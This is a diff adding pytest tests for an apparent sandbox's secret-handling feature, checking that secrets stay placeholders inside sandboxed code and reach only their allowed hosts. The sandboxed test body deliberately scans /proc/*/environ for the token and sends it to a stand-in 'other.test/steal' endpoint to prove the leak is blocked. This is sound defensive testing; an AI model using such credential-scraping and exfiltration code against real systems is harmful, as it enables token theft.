@@ -145,3 +145,66 @@ def test_nothing_is_left_after_egress_runs(root, servers, runtime):
     assert after <= before
     # the result carries the audit as JSON too (the API and the CLI's --json show this)
     assert json.loads(r.model_dump_json())["egress"] == []
+
+
+SECRET_VALUE = "ghp_RealValue0123456789abcdef"
+
+
+@pytest.fixture(scope="module")
+def secret_root(servers, tmp_path_factory):
+    ca_file = tmp_path_factory.mktemp("upstream") / "ca.pem"
+    ca_file.write_text(servers.ca_pem)  # the proxy verifies the test servers as any client would
+    settings = Settings(pool_size=0, egress_hosts=servers.hosts(), egress_upstream_ca=ca_file)
+    with Sandloop(settings) as made:
+        yield made
+
+
+def test_a_secret_is_sent_only_to_its_hosts_and_never_seen_inside(secret_root, servers, runtime):
+    from sandloop.contract.egress import Secret
+
+    body = """
+token = os.environ["GITHUB_TOKEN"]
+print("inside:", token)
+print("environ has value:", any("RealValue" in open(f"/proc/{p}/environ", errors="replace").read()
+      for p in os.listdir("/proc") if p.isdigit() and os.access(f"/proc/{p}/environ", os.R_OK)))
+import requests
+auth = {"Authorization": f"Bearer {token}"}
+print(requests.get("https://allowed.test/api", headers=auth, timeout=20).text, end="")
+print(requests.get("https://other.test/steal", headers=auth, timeout=20).text, end="")
+plain = urllib.request.Request("http://allowed.test/plain", headers=auth)
+print(urllib.request.urlopen(plain, timeout=20).read().decode(), end="")
+"""
+    servers.seen.requests.clear()
+    r = secret_root.run_code(
+        _python(servers.ca_pem, body),
+        limits=_limits(runtime, "allowed.test", "other.test"),
+        secrets={"GITHUB_TOKEN": Secret(SECRET_VALUE, hosts=["allowed.test"])},
+        timeout_seconds=60,
+    )
+    assert r.ok, r.stderr
+    placeholder = r.stdout.split("\n")[0].removeprefix("inside: ")
+    assert placeholder.startswith("sandloop-secret-GITHUB_TOKEN-") and SECRET_VALUE not in r.stdout + r.stderr
+    assert "environ has value: False" in r.stdout
+    seen = {path: headers.get("Authorization") for _, path, headers in servers.seen.requests}
+    assert seen["/api"] == f"Bearer {SECRET_VALUE}"  # its host got the value, over HTTPS
+    assert seen["/plain"] == f"Bearer {SECRET_VALUE}"  # and over plain HTTP
+    assert seen["/steal"] == f"Bearer {placeholder}"  # another host got the placeholder only
+    audit = r.model_dump_json()
+    assert SECRET_VALUE not in audit
+    notes = {a.host + a.method: a.note for a in r.egress}
+    assert "secret GITHUB_TOKEN sent" in notes["allowed.testCONNECT"]
+    assert "carried the placeholder of secret GITHUB_TOKEN to other.test" in notes["other.testCONNECT"]
+
+
+def test_secrets_are_checked_before_anything_runs(secret_root, runtime):
+    from sandloop import InvalidArgument
+    from sandloop.contract.egress import Secret
+
+    with pytest.raises(InvalidArgument, match="does not reach"):
+        secret_root.run_code(
+            "print(1)", limits=_limits(runtime, "allowed.test"), secrets={"T": Secret("v", hosts=["other.test"])}
+        )
+    with pytest.raises(InvalidArgument, match="environment variable name"):
+        secret_root.run_code("print(1)", limits=_limits(runtime, "allowed.test"), secrets={"1 bad": Secret("v", "x.y")})
+    with pytest.raises(InvalidArgument, match="hosts"):
+        Secret("v")
